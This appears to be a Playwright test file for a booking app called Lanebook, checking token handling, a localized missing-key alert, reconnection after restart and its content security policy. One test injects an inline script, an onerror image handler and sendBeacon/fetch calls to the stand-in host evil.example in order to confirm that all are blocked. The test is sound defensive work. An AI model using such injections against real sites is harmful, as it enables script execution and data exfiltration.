import { expectAccessible } from '../support/accessible.ts'
import { expect, test } from '../support/test.ts'

test('the token leaves the address and outlives a reload, and the page stays connected (REL-S8)', async ({
  openDesk,
  host,
}) => {
  const page = await openDesk()
  await expect.poll(() => page.url()).toBe(`${host.origin}/`)
  const asked = page.waitForResponse(`${host.origin}/rpc`)
  await page.reload()
  expect((await asked).status()).toBe(200)
})

test('an address without its key says what to open, also in Russian', async ({ page, host }) => {
  await page.goto(host.origin)
  const said = page.getByRole('alert')
  await expect(said.getByRole('heading')).toHaveText('Lanebook must be opened anew')
  await expect(said).toContainText('Start Lanebook again, or open the whole address')
  await expect(said.getByRole('button')).toHaveCount(0)
  await expectAccessible(page)
  await page.evaluate(() => localStorage.setItem('lanebook.language', 'ru'))
  await page.reload()
  await expect(said).toContainText('Запустите Lanebook ещё раз')
})

test('script that got into the page can run nothing of its own and reach no other place (REL-H4)', async ({
  browser,
  host,
}) => {
  // Not the test's own page: the violations are what is asked for here.
  const page = await browser.newPage()
  const reached: string[] = []
  await page.route('https://evil.example/**', (route) => {
    reached.push(route.request().url())
    return route.fulfill({ body: '' })
  })
  await page.goto(host.address)
  await page.evaluate(async () => {
    const inline = document.createElement('script')
    inline.textContent = 'window.ran = "inline"'
    document.body.append(inline)
    document.body.insertAdjacentHTML('beforeend', '<img src="x:" onerror="window.ran = \'onerror\'">')
    document.body.insertAdjacentHTML('beforeend', '<iframe src="https://evil.example/frame"></iframe>')
    new Image().src = 'https://evil.example/image'
    navigator.sendBeacon('https://evil.example/beacon', 'secret')
    await fetch('https://evil.example/fetch').catch(() => undefined)
    await new Promise((resolve) => setTimeout(resolve, 500))
  })
  expect(await page.evaluate(() => (window as { ran?: string }).ran)).toBeUndefined()
  expect(reached).toEqual([])
  await page.close()
})

test('each page opens without a violation of its policy (REL-H4)', async ({ page, openDesk, api }) => {
  await openDesk()
  await expect(page.locator('#root')).not.toBeEmpty()
  const { address } = await api.host.openClientBooking.call({})
  await page.goto(String(address))
  await expect(page).toHaveTitle(/./)
})

test('a page that was open before the app was started anew says what to open, and does not promise to come back', async ({
  host,
  openDesk,
}) => {
  const page = await openDesk()
  await expect(page.getByRole('button', { name: 'New appointment' })).toBeVisible()
  await host.stop()
  await expect(page.getByText('Lanebook does not answer')).toBeVisible()
  await host.start()
  await expect(page.getByText('This page has lost its way into the book.')).toBeVisible()
  await expect(page.getByText('Lanebook does not answer')).toBeHidden()
  await page.goto(host.address)
  await expect(page.getByRole('button', { name: 'New appointment' })).toBeVisible()
  await expect(page.getByText('This page has lost its way into the book.')).toBeHidden()
})
